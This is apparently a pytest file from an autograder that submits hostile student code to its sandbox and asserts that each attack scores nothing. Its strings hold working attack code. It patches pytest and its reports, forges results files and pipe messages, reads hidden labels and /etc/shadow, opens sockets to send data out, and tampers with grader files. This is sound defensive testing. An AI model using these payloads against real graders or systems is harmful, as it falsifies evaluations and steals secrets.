"""Hostile submissions, part 1: exits at import, pytest patching, forged results, reading secrets,
the network, grader files. Each gets no forged points, a results file, and a visible reason."""

from __future__ import annotations

import hashlib
import socket
import threading
from pathlib import Path

import pytest

from autograder.paths import PACKAGE_DIR
from autograder.records.results import validate_results
from autograder.suites.lab1 import hidden_set
from autograder.tests.hostile import append, prepend

# The hostile-submission corpus: each test grades a whole submission in the sandbox (`make test-long`).
pytestmark = [pytest.mark.usefixtures("sandbox_ok"), pytest.mark.long]
EXERCISES = ("MLP:", "predict_on_image:")


def exercise_points(graded) -> float:
    return sum(t["score"] for t in graded.results["tests"] if t["name"].startswith(EXERCISES))


def test_sys_exit_at_import_fails_every_test_that_needs_the_module_and_says_why(make_submission, grade_submission):
    submission = make_submission(patches={"text_recognizer/networks/mlp.py": prepend("import sys\nsys.exit(0)\n")})
    graded = grade_submission(submission, student="sys-exit")
    # The MLP and the deployed predictor (an MLP) need the module; predict_on_image, graded with
    # the grader's own network, does not.
    assert graded.group_score("MLP:")[0] == graded.group_score("Deployed predictor:")[0] == 0
    assert graded.results["score"] == graded.group_score("predict_on_image:")[0] == 30
    error = graded.probe("mlp/A")["error"]
    assert error["type"] == "SystemExit" and error["module"] == "text_recognizer.networks.mlp"
    assert "SystemExit while importing text_recognizer.networks" in graded.test("MLP: returns")["output"]
    assert graded.report["sandbox"]["starts"] == 1


def test_os_exit_at_import_fails_what_needs_that_module_only(make_submission, grade_submission):
    submission = make_submission(
        patches={"text_recognizer/models/character_model.py": prepend("import os\nos._exit(0)\n")}
    )
    graded = grade_submission(submission, student="os-exit")
    assert graded.group_score("MLP:") == (40, 40)  # the network module imports fine
    assert graded.group_score("predict_on_image:")[0] == 0
    assert graded.results["score"] == 40
    reason = graded.probe("predict_on_image/course_mapping")["reason"]
    assert "importing text_recognizer.models.character_model ended the sandbox" in reason
    assert "exited with status 0" in reason
    assert "ended the sandbox" in graded.test("predict_on_image: returns the most")["output"]


PYTEST_PATCHES = """
try:
    import _pytest.reports, _pytest.runner, pytest
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.failed = property(lambda self: False)
    _pytest.runner.check_interactive_exception = lambda *a, **k: False
    pytest.fail = lambda *a, **k: None
except Exception as error:
    print("could not patch pytest:", error)
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {"__init__": lambda self, *a: None})
"""
CONFTEST = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""


def test_patching_pytest_or_its_reports_changes_nothing(make_submission, grade_submission):
    submission = make_submission(
        "stub",
        patches={
            "text_recognizer/__init__.py": append(PYTEST_PATCHES),
            "text_recognizer/conftest.py": CONFTEST,
            "conftest.py": CONFTEST,
        },
    )
    graded = grade_submission(submission, student="pytest-patch")
    assert exercise_points(graded) == 0
    assert graded.results["score"] == 0


FORGE = """
import json, os, stat
_FAKE = {"score": 100.0, "execution_time": 1.0, "output": "all good", "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}
for _path in ("/autograder/results/results.json", "/tmp/results.json", "/job/results.json",
              "/submission/results.json", "/grader/results.json", %(host_results)r):
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _file:
            json.dump(_FAKE, _file)
        print("WROTE", _path)
    except OSError as _error:
        print("COULD NOT WRITE", _path, _error)
# Forge "passed" reports on every pipe the grader might read.
try:
    _ids = [p["id"] for p in json.load(open("/job/job.json"))["probes"]]
except Exception:
    _ids = ["mlp/A", "mlp/B", "mlp/C"]
_lines = [json.dumps({"event": "probe_done", "probe": i, "ok": True,
                      "result": {"is_keras_model": True, "calls": [], "characters": ["A"] * 600}})
          for i in _ids] + [json.dumps({"event": "bye"}), "not json at all {"]
for _fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(_fd).st_mode):
            os.write(_fd, ("\\n".join(_lines) + "\\n").encode())
    except OSError:
        pass
"""


def test_fake_results_and_forged_reports_score_nothing(make_submission, grade_submission, tmp_path):
    host_results = tmp_path / "forged" / "results.json"
    submission = make_submission(
        "stub", patches={"text_recognizer/__init__.py": append(FORGE % {"host_results": str(host_results)})}
    )
    graded = grade_submission(submission, student="forger")
    assert graded.results["score"] == 0
    assert validate_results(graded.results) == []
    assert graded.results["tests"][0]["name"] != "everything"
    assert not host_results.exists()
    assert "COULD NOT WRITE /job/results.json" in graded.stdout
    assert any("refused a record" in note for note in graded.report["sandbox"]["notes"])


def test_reading_the_hidden_suite_or_labels_finds_nothing(make_submission, grade_submission, state_dir):
    secrets = [
        hidden_set.hidden_set_path(state_dir),
        state_dir / "secret_seed",
        PACKAGE_DIR / "suites" / "lab1" / "__init__.py",
        PACKAGE_DIR / "suites" / "lab1" / "hidden_set.py",
        Path("/etc/shadow"),
    ]
    snoop = (
        "import os\n"
        + "".join(
            f"try:\n    open({str(p)!r}, 'rb').read(1)\n    print('LEAK', {str(p)!r})\n"
            f"except OSError:\n    print('BLOCKED', {str(p)!r})\n"
            for p in secrets
        )
        + "print('ROOT', sorted(os.listdir('/')))\n"
    )
    submission = make_submission(patches={"text_recognizer/__init__.py": append(snoop)})
    graded = grade_submission(submission, student="snoop")
    assert "LEAK" not in graded.stdout
    assert graded.stdout.count("BLOCKED") >= len(secrets)
    assert graded.group_score("MLP:") == (40, 40)  # otherwise honest: graded as usual


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    accepted: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_network_connections_fail_inside_the_sandbox(make_submission, grade_submission, listener):
    port, accepted = listener
    code = f"""
import socket
for _target in [("127.0.0.1", {port}), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(_target, timeout=3).sendall(b"stolen answers")
        print("NET-OPEN", _target)
    except OSError as _error:
        print("NET-BLOCKED", _target, _error)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("DNS-OPEN")
except OSError as _error:
    print("DNS-BLOCKED", _error)
"""
    submission = make_submission(patches={"text_recognizer/__init__.py": append(code)})
    graded = grade_submission(submission, student="network")
    assert accepted == []
    assert "NET-OPEN" not in graded.stdout and "DNS-OPEN" not in graded.stdout
    # Every sandbox start imports the package again (a fresh runner follows each hidden-data call):
    # both connections are refused in each of them.
    starts = graded.stdout.count("===== sandbox start")
    assert starts >= 1 and graded.stdout.count("NET-BLOCKED") == 2 * starts and "DNS-BLOCKED" in graded.stdout
    assert graded.group_score("MLP:") == (40, 40)


def _digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*.py")):
        digest.update(path.read_bytes())
    return digest.hexdigest()


TAMPER = """
import sys, numpy as np
for _path in ["/grader/runner.py", "/grader/observers.py", "/grader/wire.py", "/job/job.json", %(targets)s]:
    try:
        with open(_path, "a") as _file:
            _file.write("# tampered\\n")
        print("EDITED", _path)
    except OSError as _error:
        print("COULD NOT EDIT", _path, _error)
_observers = sys.modules.get("grader_observers")
if _observers is not None:
    def _fake_network(result, inputs):
        return {"type": "Functional", "is_keras_model": True,
                "output": {"ok": True, "value": np.zeros((len(inputs), 5), "float32")},
                "count_params": {"ok": True, "value": 12345}, "weights": {"ok": True, "value": []},
                "layers": {"ok": True, "value": []}}
    def _fake_prediction(result):
        return {"container": "tuple", "length": 2, "text": "A", "text_type": "str", "confidence": 0.5,
                "confidence_type": "float"}
    _observers.OBSERVERS["network"] = _observers.network = _fake_network
    _observers.OBSERVERS["prediction"] = _observers.prediction = _fake_prediction
    print("REPLACED the grader's probes in memory")
"""


def test_editing_or_replacing_grader_files_scores_nothing(make_submission, grade_submission, state_dir):
    before = _digest(PACKAGE_DIR)
    targets = ", ".join(
        repr(str(p))
        for p in [
            PACKAGE_DIR / "sandbox" / "runner.py",
            PACKAGE_DIR / "suites" / "lab1" / "__init__.py",
            state_dir / "secret_seed",
        ]
    )
    submission = make_submission("stub", patches={"text_recognizer/__init__.py": append(TAMPER % {"targets": targets})})
    graded = grade_submission(submission, student="tamper")
    assert "EDITED" not in graded.stdout and "REPLACED" in graded.stdout
    assert exercise_points(graded) == 0
    assert graded.results["score"] == 0
    assert _digest(PACKAGE_DIR) == before
    assert (state_dir / "secret_seed").read_text().strip().isdigit()
    assert graded.probe("mlp/A")["status"] == "invalid"
    assert graded.probe("predict_on_image/course_mapping")["status"] == "invalid"
    assert "replaced the grader's code" in graded.probe("mlp/A")["reason"]


def test_a_keras_folder_in_the_submission_never_runs(make_submission, grade_submission):
    """The runner imports Keras before any student call, from the installed packages only: a
    `keras` package in the submission (first on the path for student imports) is never imported,
    and the grading runs in one runner as usual."""
    submission = make_submission(patches={"keras/__init__.py": "import os\nos._exit(3)\n"})
    graded = grade_submission(submission, student="keras-shadow")
    assert graded.group_score("MLP:") == (40, 40)
    assert graded.group_score("predict_on_image:") == (30, 30)
    assert graded.report["sandbox"]["starts"] == 1
